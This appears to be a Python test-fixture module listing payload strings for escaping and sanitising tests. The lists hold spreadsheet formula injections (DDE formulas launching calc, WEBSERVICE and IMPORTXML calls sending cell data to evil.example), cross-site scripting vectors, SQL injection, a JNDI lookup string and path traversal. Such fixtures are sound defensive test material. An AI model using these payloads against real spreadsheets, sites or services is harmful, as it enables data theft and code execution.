"""Texts that would do something where they are not kept as text: formulas, markup and script, and oddities.

The kinds follow the OWASP notes on formula injection and on evading filters of markup; each is written for these tests. Every script says
`alert(…)` or asks for `evil.example`, so that one that lives is noticed by a dialog or by what it asks for.
"""

from __future__ import annotations

#: What a spreadsheet may take for a formula, and ways to hide that it is one.
FORMULAS = (
    "=1+1", '=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "  =1+1", "\t=1+1", "\r=1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "=cmd|'/C calc'!A1", '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")', '=DDE("cmd";"/C calc";"x")',
    "'=1+1", "{=1+1}", "=A1", "=SUM(A1:A9)", '=WEBSERVICE("https://evil.example/"&A1)', '=IMAGE("https://evil.example/x.png")',
    '=IMPORTDATA("https://evil.example/x.csv")', '=IMPORTHTML("https://evil.example","table",1)', "=-1+1", "=+1", "=@A1", "+1+1",
    "-1+1", "-A1", "+A1", "@A1", "@INDIRECT(A1)", "\n=1+1", "\ufeff=1+1", '=EXEC("calc")', "=MSEXCEL|'\\..\\..\\calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc'!A", "%0A=1+1", "=\"a\"&\"b\"", "=REGISTER.ID(1,2)", "\u3000=1+1",
)  # fmt: skip

#: What a browser may run or load, and ways to leave the place where text stands.
SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "<script>alert(1)//", "<script\n>alert(1)</script >",
    '"><img src=x onerror=alert(1)>', "<img src=x onerror=alert(1)>", "<IMG SRC=//evil.example/x.png>", "<img/src/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>", '<img src="x`" onerror="alert(1)">', "<svg onload=alert(1)>", "</style><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=//evil.example></iframe>", "</title><iframe src=//evil.example>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "javascript:alert(1)",
    "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "' autofocus onfocus=alert(1) x='",
    '" autofocus onfocus=alert(1) x="', "` onmouseover=alert(1) x=`", "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>", "<audio src=//evil.example/x autoplay onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<p style=background:url(//evil.example/x)>x</p>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<x onclick=alert(1) tabindex=1 id=x>x</x>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\x00script>alert(1)</script>",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip

#: What templates, terminals, databases and readers of spreadsheets take for something else.
ODD = (
    "https://evil.example/click", "mailto:a@evil.example", "internal:Sheet1!A1", "external:\\\\host\\share\\x.xlsx", "\\\\host\\share",
    "{{ 7 * 7 }}", "{% raw %}", "0012", "1e5", "_x0041_", "a\x00b\x07c\x1b[31m", "\u202egnp.exe", "two\nlines", 'say "hello", twice',
    "O'Brien & Søn <Ltd>", "\ufffe\uffff", "\x85\x9f", "😀" * 3, "Null", "None", "Nan", "NaN", "Na", "True", "May", "Jan", "1/2", "NULL",
    "'; DROP TABLE x; --", "${jndi:ldap://evil.example/x}", "{0.__class__}", "%n%s", "../../etc/x", "NAME_MISSING|surname;flag",
)  # fmt: skip

PAYLOADS = (*FORMULAS, *SCRIPTS, *ODD)
